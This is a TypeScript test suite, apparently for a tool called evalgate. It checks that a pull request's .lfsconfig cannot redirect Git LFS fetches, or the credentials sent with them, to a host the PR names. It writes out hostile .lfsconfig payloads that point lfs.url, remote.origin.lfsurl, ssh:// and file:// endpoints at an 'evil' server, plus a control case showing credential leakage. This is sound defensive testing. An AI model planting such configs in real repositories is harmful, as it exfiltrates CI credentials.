// Where the base's LFS content is fetched from. A pull request's checkout may carry a
// .lfsconfig, and git-lfs reads its endpoint (lfs.url, remote.<name>.lfsurl) and access mode
// (lfs.<url>.access) from the working tree's copy, else the index's, else HEAD's — all the
// PR's. Run in the checkout, git lfs would send the request, and any credentials a
// credential helper hands out for that host, wherever the PR says (the control case shows
// it does), or start ssh to a host the PR names. evalgate fetches from the endpoint the
// base commit names (its own .lfsconfig, else the origin remote), with the checkout's
// credentials, and fails the read when that endpoint cannot give the content.
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { access, chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { after, afterEach, before, beforeEach, describe, it } from 'node:test';
import { createGitWorkspace, openGitRepo } from '../../src/adapters/git.ts';
import { ConfigError } from '../../src/core/errors.ts';
import { hasGitLfs, startFakeLfs, type FakeLfs } from '../helpers/fake-lfs.ts';

const DATA = '{"id":"a","question":"q","expected":"y"}\n';
const OID = createHash('sha256').update(DATA).digest('hex');
const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${OID}\nsize ${Buffer.byteLength(DATA)}\n`;
/** What actions/checkout persists: an auth header scoped to the repository's host. */
const CHECKOUT_HEADER = `basic ${Buffer.from('x-access-token:checkout-token').toString('base64')}`;
/** What a runner-wide credential helper (not scoped to a host) hands out to any host that asks. */
const HELPER_SECRET = 'helper-secret';

describe("the base's LFS content comes from the endpoint the base names", { skip: !hasGitLfs }, () => {
  let root: string;
  let repo: string;
  let sshMarker: string;
  let trusted: FakeLfs; // the origin remote's LFS server
  let named: FakeLfs; // the server the base's own .lfsconfig names
  let hostile: FakeLfs; // the server the pull request's .lfsconfig names
  let base: string;
  let baseNaming: string;
  const git = (...args: string[]): string => execFileSync('git', args, { cwd: repo, encoding: 'utf8' }).trim();
  /** The pull request: a commit on top of the base that adds `lfsconfig`, checked out. */
  const pullRequest = async (lfsconfig: string): Promise<void> => {
    git('checkout', '-q', '-B', 'pr', base);
    await writeFile(join(repo, '.lfsconfig'), lfsconfig);
    git('add', '.lfsconfig');
    git('commit', '-q', '-m', 'pr');
  };
  const readBase = async (sha = base): Promise<string> =>
    new TextDecoder().decode(await createGitWorkspace(openGitRepo(repo), sha, '').readBytes('data.jsonl'));
  const sshStarted = (): Promise<boolean> =>
    access(sshMarker).then(
      () => true,
      () => false,
    );

  before(async () => {
    [trusted, named, hostile] = await Promise.all([startFakeLfs(), startFakeLfs(), startFakeLfs()]);
    for (const server of [trusted, named, hostile]) server.add(DATA);
    root = await mkdtemp(join(tmpdir(), 'evalgate-lfs-endpoint-'));
    repo = join(root, 'repo');
    sshMarker = join(root, 'ssh-started');
    await writeFile(join(root, 'ssh'), `#!/bin/sh\ntouch '${sshMarker}'\nexit 1\n`);
    await chmod(join(root, 'ssh'), 0o755);
    await mkdir(repo);
    git('init', '-q', '-b', 'main');
    git('config', 'user.email', 't@example.com');
    git('config', 'user.name', 't');
    git('remote', 'add', 'origin', `${trusted.url}/o/r`);
    git('config', `http.${trusted.url}/.extraheader`, `AUTHORIZATION: ${CHECKOUT_HEADER}`);
    git('config', 'credential.helper', `!f() { echo username=runner; echo password=${HELPER_SECRET}; }; f`);
    await writeFile(join(repo, 'data.jsonl'), POINTER);
    git('add', 'data.jsonl');
    git('commit', '-q', '-m', 'base');
    base = git('rev-parse', 'HEAD');
    await writeFile(join(repo, '.lfsconfig'), `[lfs]\n\turl = ${named.url}/named/by/base\n`);
    git('add', '.lfsconfig');
    git('commit', '-q', '-m', 'base naming its own LFS server');
    baseNaming = git('rev-parse', 'HEAD');
    process.env.GIT_SSH = join(root, 'ssh');
  });
  beforeEach(async () => {
    await rm(join(repo, '.git/lfs/objects'), { recursive: true, force: true });
    await rm(sshMarker, { force: true });
    for (const server of [trusted, named, hostile]) server.requests.length = 0;
  });
  afterEach(() => {
    for (const server of [trusted, named, hostile]) server.add(DATA);
  });
  after(async () => {
    delete process.env.GIT_SSH;
    await Promise.all([trusted.close(), named.close(), hostile.close()]);
    await rm(root, { recursive: true, force: true });
  });

  it("control: git lfs run in the checkout follows the PR's .lfsconfig, credentials and all", async () => {
    await pullRequest(`[lfs]\n\turl = ${hostile.url}/evil\n[lfs "${hostile.url}/evil"]\n\taccess = basic\n`);
    // Asynchronously: the fake servers answer from this process.
    await promisify(execFile)('git', ['lfs', 'fetch', '--include=data.jsonl', '--exclude=', 'origin', base], {
      cwd: repo,
      env: { ...process.env, GIT_TERMINAL_PROMPT: '0' },
    }).catch(() => undefined);
    assert.ok(
      hostile.requests.some(
        (r) => r.path === '/evil/objects/batch' && (r.authorization ?? '').includes(btoa(`runner:${HELPER_SECRET}`)),
      ),
      "the PR's server got the batch request with the helper's credentials",
    );
    assert.deepEqual(trusted.requests, []);
  });

  const attacks: [string, string][] = [
    ['lfs.url naming another host', `[lfs]\n\turl = HOSTILE/evil\n`],
    ['lfs.url with basic access asked for', `[lfs]\n\turl = HOSTILE/evil\n[lfs "HOSTILE/evil"]\n\taccess = basic\n`],
    ['remote.origin.lfsurl', `[remote "origin"]\n\tlfsurl = HOSTILE/evil\n`],
    ['an ssh:// lfs.url', `[lfs]\n\turl = ssh://git@127.0.0.1:9/evil\n`],
    ['a file:// lfs.url', `[lfs]\n\turl = file:///tmp/evil.git\n`],
  ];
  for (const [what, lfsconfig] of attacks) {
    it(`a PR's .lfsconfig with ${what} changes nothing: the origin's server, the checkout's header`, async () => {
      await pullRequest(lfsconfig.replaceAll('HOSTILE', hostile.url));
      assert.equal(await readBase(), DATA);
      assert.deepEqual(hostile.requests, [], "nothing reached the PR's server");
      assert.equal(await sshStarted(), false, 'ssh was not started');
      const batch = trusted.requests.find((r) => r.method === 'POST');
      assert.equal(batch?.path, '/o/r.git/info/lfs/objects/batch');
      assert.equal(batch?.authorization, CHECKOUT_HEADER);
    });
  }

  it("a .lfsconfig only in the PR's index and HEAD (gone from the working tree) is not used either", async () => {
    await pullRequest(`[lfs]\n\turl = ${hostile.url}/evil\n`);
    await rm(join(repo, '.lfsconfig'));
    assert.equal(await readBase(), DATA);
    assert.deepEqual(hostile.requests, []);
    assert.equal(trusted.requests.find((r) => r.method === 'POST')?.path, '/o/r.git/info/lfs/objects/batch');
  });

  it("the base's own .lfsconfig names the server, whatever the PR's says", async () => {
    await pullRequest(`[lfs]\n\turl = ${hostile.url}/evil\n`);
    assert.equal(await readBase(baseNaming), DATA);
    assert.equal(named.requests.find((r) => r.method === 'POST')?.path, '/named/by/base/objects/batch');
    assert.deepEqual(hostile.requests, []);
    assert.deepEqual(trusted.requests, []);
  });

  it('fails the read when the trusted server serves other bytes, naming the file, where it looked and the fix', async () => {
    await pullRequest(`[lfs]\n\turl = ${hostile.url}/evil\n`);
    trusted.objects.set(OID, new TextEncoder().encode(DATA.replace('"y"', '"n"')));
    await assert.rejects(
      () => readBase(),
      (e: unknown) =>
        e instanceof ConfigError &&
        /"data\.jsonl" at [0-9a-f]{7} is a Git LFS pointer \(sha256 [0-9a-f]{12}…, \d+ bytes\) whose content is not in this checkout and could not be fetched with git lfs; check out with `lfs: true`.* \(git lfs asked the endpoint commit [0-9a-f]{7} names: its \.lfsconfig, else the origin remote; a \.lfsconfig in the checkout is never used\)$/.test(
          e.message,
        ),
    );
    assert.deepEqual(hostile.requests, []);
  });
});
